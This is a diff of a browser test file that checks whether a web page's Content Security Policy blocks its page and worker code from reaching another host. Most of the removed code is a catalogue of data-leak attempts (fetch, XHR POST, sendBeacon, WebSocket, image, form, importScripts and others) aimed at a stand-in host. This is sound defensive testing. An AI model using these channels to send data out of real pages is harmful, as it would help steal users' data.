@@ -1,93 +1,8 @@
-// What is pasted cannot leave by any of the ways a page has of talking to another host, but two: a page may
-// always navigate away, and the policy does not govern WebRTC. Those are for the page's own code not to use.
 import assert from "node:assert/strict";
 import { test } from "node:test";
-import { builds, open } from "./browser.mjs";
-
-const ELSEWHERE = "https://elsewhere.invalid/?leak";
-
-/** Each tries to reach another host and says whether it was stopped. They run in the page. */
-const PAGE_ATTEMPTS = {
-  fetch: (url) => fetch(url).then(() => "let through", () => "refused"),
-  XMLHttpRequest: (url) =>
-    new Promise((resolve) => {
-      const request = new XMLHttpRequest();
-      request.onload = () => resolve("let through");
-      request.onerror = () => resolve("refused");
-      request.open("POST", url);
-      request.send("leak");
-    }),
-  sendBeacon: (url) => (navigator.sendBeacon(url, "leak"), "refused"),
-  WebSocket: (url) =>
-    new Promise((resolve) => {
-      try {
-        const socket = new WebSocket(url.replace("https", "wss"));
-        socket.onopen = () => resolve("let through");
-        socket.onerror = () => resolve("refused");
-      } catch {
-        resolve("refused");
-      }
-    }),
-  EventSource: (url) =>
-    new Promise((resolve) => {
-      const source = new EventSource(url);
-      source.onopen = () => resolve("let through");
-      source.onerror = () => resolve("refused");
-    }),
-  image: (url) =>
-    new Promise((resolve) => {
-      const image = new Image();
-      image.onload = () => resolve("let through");
-      image.onerror = () => resolve("refused");
-      image.src = url;
-    }),
-  stylesheet: (url) =>
-    new Promise((resolve) => {
-      const link = Object.assign(document.createElement("link"), { rel: "stylesheet", href: url });
-      link.onload = () => resolve("let through");
-      link.onerror = () => resolve("refused");
-      document.head.append(link);
-    }),
-  script: (url) => {
-    try {
-      document.head.append(Object.assign(document.createElement("script"), { src: url }));
-      return "let through";
-    } catch {
-      return "refused";
-    }
-  },
-  frame: (url) => (document.body.append(Object.assign(document.createElement("iframe"), { src: url })), "refused"),
-  form: (url) => {
-    const form = Object.assign(document.createElement("form"), { action: url, method: "post" });
-    document.body.append(form);
-    form.submit();
-    return "refused";
-  },
-};
-
-const WORKER_ATTEMPTS = {
-  fetch: PAGE_ATTEMPTS.fetch,
-  XMLHttpRequest: (url) => {
-    const request = new XMLHttpRequest();
-    request.open("POST", url, false);
-    try {
-      request.send("leak");
-      return "let through";
-    } catch {
-      return "refused";
-    }
-  },
-  WebSocket: PAGE_ATTEMPTS.WebSocket,
-  importScripts: (url) => {
-    try {
-      importScripts(url);
-      return "let through";
-    } catch {
-      return "refused";
-    }
-  },
-  import: (url) => import(url).then(() => "let through", () => "refused"),
-};
+import { builds, open, openPlain } from "./browser.mjs";
+import { fromPage, fromWorker } from "./leaks.mjs";
+import { listen } from "./listener.mjs";
 
 for (const build of builds) {
   test(`${build.name}: nothing is requested after the page has loaded`, async (t) => {
@@ -107,33 +22,38 @@ for (const build of builds) {
     await page.getByText("The worker read 7 characters.").waitFor();
   });
 
-  for (const [side, attempts] of [["page", PAGE_ATTEMPTS], ["worker", WORKER_ATTEMPTS]]) {
-    for (const [name, attempt] of Object.entries(attempts)) {
-      test(`${build.name}: ${name} to another host is refused in the ${side}`, async (t) => {
-        const opened = await open(t, build);
-        const refusals = await violations(opened.page);
-        const before = opened.requests.length;
-        assert.equal(await opened[side].evaluate(attempt, ELSEWHERE), "refused");
-        const left = opened.requests.slice(before).filter((url) => url.includes("elsewhere"));
-        if (side === "page") await refusals.first();
-        assert.deepEqual(await reached(opened, left), []);
-        assert.equal(opened.page.url(), build.url, "the page stayed");
-      });
-    }
+  for (const [side, leaks] of [["page", fromPage], ["worker", fromWorker]]) {
+    test(`${build.name}: the ${side} can tell no other host a thing`, async (t) => {
+      const elsewhere = await listen(t);
+      const opened = await open(t, build);
+      for (const [name, leak] of Object.entries(leaks)) {
+        assert.ok(await isRefused(opened[side], leak, elsewhere.url), `${name} is refused`);
+      }
+      assert.deepEqual(elsewhere.heard, []);
+      assert.equal(opened.page.url(), build.url, "the page stayed");
+    });
   }
 }
 
-/** The violations of its policy that the page reports from now on. */
-async function violations(page) {
-  await page.evaluate(() => {
+test("a page without a policy tells other hosts all of it, so these tests would notice", async (t) => {
+  const elsewhere = await listen(t);
+  for (const [side, leaks] of [["page", fromPage], ["worker", fromWorker]]) {
+    const opened = await openPlain(t);
+    for (const [name, leak] of Object.entries(leaks)) {
+      const heard = elsewhere.next();
+      await opened[side].evaluate(leak, `${elsewhere.url}${encodeURIComponent(name)}`).catch(() => {});
+      await heard;
+    }
+  }
+});
+
+/** Whether the browser reports that the attempt broke the policy it runs under. */
+async function isRefused(side, leak, url) {
+  await side.evaluate(() => {
     globalThis.violation = new Promise((resolve) =>
-      addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true }),
+      addEventListener("securitypolicyviolation", () => resolve(true), { once: true }),
     );
   });
-  return { first: () => page.evaluate(() => globalThis.violation) };
-}
-
-/** Chromium announces requests that its policy then stops: of `urls`, those that were not stopped. */
-async function reached({ failures }, urls) {
-  return urls.filter((url) => failures.get(url) !== "csp");
+  await side.evaluate(leak, url).catch(() => {});
+  return side.evaluate(() => globalThis.violation);
 }
